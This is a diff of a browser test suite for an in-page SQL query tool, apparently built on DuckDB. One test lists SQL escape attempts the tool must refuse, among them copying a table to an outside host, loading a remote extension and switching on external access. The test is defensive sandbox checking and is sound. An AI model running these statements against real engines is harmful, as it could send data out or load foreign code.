@@ -7,6 +7,8 @@ import { type ShopLake, shopLake } from "./testing/shop-lake.ts";
 
 const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
 const HOUR_MS = 3_600_000;
+/** The browser itself asks for autofill and the like; that is not the page. */
+const BROWSERS_OWN = /\.google(apis)?\.com:443$/;
 
 let browser: Browser;
 /** A proxy that everything but loopback goes through, and that only writes down who asked. */
@@ -22,7 +24,7 @@ beforeAll(async () => {
     trapped.push(request.url ?? "");
     response.writeHead(502).end();
   }).on("connect", (request, socket) => {
-    trapped.push(request.url ?? "");
+    if (!BROWSERS_OWN.test(request.url ?? "")) trapped.push(request.url ?? "");
     socket.end("HTTP/1.1 502 Bad Gateway\r\n\r\n");
   });
   await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
@@ -117,7 +119,7 @@ test("every shipped question answers in the browser's engine", async () => {
     await answered(page);
     expect(
       await page.locator("#table tbody tr").count(),
-      await questions.nth(index).textContent(),
+      (await questions.nth(index).textContent()) ?? "",
     ).toBeGreaterThan(0);
     expect(await page.locator("#chart figure").count()).toBe(1);
   }
@@ -132,16 +134,18 @@ test("no SQL reaches another origin, a file or the settings", async () => {
     "SELECT * FROM 'http://elsewhere.example/a.parquet'",
     "SELECT json_extract(props, '$.hits') FROM events",
     "SELECT * FROM read_parquet('a.parquet')",
-    "INSTALL json FROM 'http://elsewhere.example'",
-    "INSTALL json",
     "LOAD json",
+    "LOAD 'http://elsewhere.example/json.wasm'",
     "ATTACH 'http://elsewhere.example/a.db'",
     "COPY events TO 'http://elsewhere.example/a.csv'",
     "SET enable_external_access = true",
     "SET autoload_known_extensions = true",
     "SET custom_extension_repository = 'http://elsewhere.example'",
   ];
-  for (const sql of attempts) expect(await refusal(page, sql), sql).toMatch(/Error|Exception/);
+  for (const sql of attempts) expect(await refusal(page, sql), sql).toMatch(/^[A-Za-z ]+ Error/);
+  // In the browser INSTALL does nothing by itself; LOAD is what would fetch.
+  await run(page, "INSTALL json FROM 'http://elsewhere.example'");
+  expect(await refusal(page, "LOAD json")).toMatch(/Error/);
   // The engine is still the same one and still well.
   expect(await ask(page, "SELECT count(*) FROM events")).toEqual([[String(lake.events.length)]]);
   const origins = await page.evaluate(() =>
@@ -206,8 +210,11 @@ test("a query that never ends is stopped, and the next one answers", async () =>
   await page.click("#run-button");
   await page.waitForFunction(() => document.getElementById("result-status")?.textContent === "Running…");
   await page.click("#stop-button");
-  await page.waitForFunction(() => document.getElementById("result-status")?.textContent === "Stopped.");
-  expect(await ask(page, "SELECT 1 + 1")).toEqual([["2"]]);
+  // Either it lets go, or its engine is replaced and the events are loaded again.
+  await page.waitForFunction(() =>
+    document.getElementById("result-status")?.textContent?.startsWith("Stopped."),
+  );
+  expect(await ask(page, "SELECT count(*) FROM events")).toEqual([[String(lake.events.length)]]);
 });
 
 test("an answer of more rows than the bound says so", async () => {
@@ -277,7 +284,10 @@ async function answered(page: Page): Promise<void> {
 }
 
 async function type(page: Page, sql: string): Promise<void> {
-  await page.locator(".cm-content").fill(sql);
+  // As a person does: select all, type. A script's own way of filling in is not what we ship.
+  await page.locator(".cm-content").click();
+  await page.keyboard.press("Control+A");
+  await page.keyboard.insertText(sql);
 }
 
 async function run(page: Page, sql: string): Promise<void> {
